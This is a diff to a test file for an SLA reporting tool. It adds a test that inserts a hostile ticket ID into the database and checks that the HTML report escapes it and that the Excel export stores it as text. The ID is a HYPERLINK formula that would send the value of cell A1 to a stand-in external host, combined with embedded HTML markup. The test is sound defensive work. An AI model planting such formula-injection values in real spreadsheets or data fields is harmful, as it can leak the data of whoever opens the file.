@@ -421,3 +421,29 @@ def test_both_priority_bases_are_named(zh_reports):
     html = report_for(zh_reports, "PRJ-A")
     assert "按优先级统计时采用 SLA 适用优先级（默认为工单受理时的优先级）" in html
     assert "按工单当前优先级统计。" in html
+
+
+def test_a_hostile_ticket_id_is_text_in_the_workbook_and_escaped_in_the_html(conn, url, tmp_path):
+    hostile = '=HYPERLINK("http://x.example/"&A1,"<b>click</b>")'
+    conn.execute(
+        "insert into marts.fct_tickets (ticket_id, ticket_type, project_id, priority, opened_at, opened_month, status,"
+        " sla_status) values (%s, 'incident', 'PRJ-B', 'P3', '2026-10-21 02:00+00', '2026-10-01', 'new', 'breached')",
+        (hostile,),
+    )
+    conn.execute(
+        "insert into marts.sla_breaches values (%s, 'response', 'PRJ-B', '2026-10-01', 'P3', '2026-10-21 02:00+00',"
+        " '2026-10-21 03:00+00', null, 60, 90, 30)",
+        (hostile,),
+    )
+    try:
+        report = next(r for r in render(url, tmp_path, formats=("html", "xlsx")) if r.unit_id == "PRJ-B")
+    finally:
+        conn.execute("delete from marts.fct_tickets where ticket_id = %s", (hostile,))
+        conn.execute("delete from marts.sla_breaches where ticket_id = %s", (hostile,))
+    assert "&lt;b&gt;click&lt;/b&gt;" in report.path.read_text(
+        encoding="utf-8"
+    ) and "<b>click" not in report.path.read_text(encoding="utf-8")
+    workbook = load_workbook(report.files["xlsx"])
+    for title in ("SLA违约", "工单明细"):
+        [cell] = [cell for cell in workbook[title]["A"] if cell.value == hostile]
+        assert cell.data_type == "s", title
